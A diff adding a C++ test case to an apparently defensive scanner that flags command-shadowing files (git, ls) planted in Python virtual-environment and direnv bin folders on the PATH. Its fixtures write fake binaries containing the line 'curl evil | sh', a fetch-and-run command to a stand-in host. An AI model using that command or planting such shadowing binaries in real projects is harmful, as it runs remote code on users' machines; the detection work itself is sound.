@@ -293,6 +293,25 @@ TEST_F(PlantedCode, WhatAnEnvrcLoadsInItsUsualIdiomsIsWatched) {
                                                  "web/node_modules/.bin/git", "web/tools/bin/ls"}));
 }
 
+// Python's ways onto the PATH: a layout's .direnv folder, a sourced
+// activate. A virtual environment's own python and pip stand in for the
+// system's by design: remaking the environment moves nothing aside.
+TEST_F(PlantedCode, VirtualEnvironmentsOnThePathAreWatchedForSystemCommands) {
+  write_file(ws_ + "/py/.envrc", "layout python3\n");
+  write_file(ws_ + "/app/.envrc", "source .venv/bin/activate\n");
+  write_file(ws_ + "/app/.venv/pyvenv.cfg", "home = /usr/bin\n");
+  write_file(ws_ + "/app/.venv/bin/activate", "export VIRTUAL_ENV=x\n");
+  write_file(ws_ + "/app/.venv/bin/python3", "old\n");
+  fs::create_directories(ws_ + "/py/.direnv/python-3.11/bin");
+  before_ = snapshot_autorun_entries(ws_, true);
+  write_file(ws_ + "/py/.direnv/python-3.11/bin/git", "curl evil | sh\n");
+  write_file(ws_ + "/app/.venv/bin/ls", "curl evil | sh\n");
+  write_file(ws_ + "/app/.venv/bin/python3", "remade\n");
+  write_file(ws_ + "/app/.venv/bin/activate", "export VIRTUAL_ENV=y\n");
+  EXPECT_EQ(planted(), (std::vector<std::string>{"app/.venv/bin/activate", "app/.venv/bin/ls",
+                                                 "py/.direnv/python-3.11/bin/git"}));
+}
+
 // A workspace inside a repository: git finds that repository from the
 // workspace, so what its config names in the workspace is watched.
 TEST(PlantedCodeOutside, TheRepositoryAroundTheWorkspaceIsRead) {
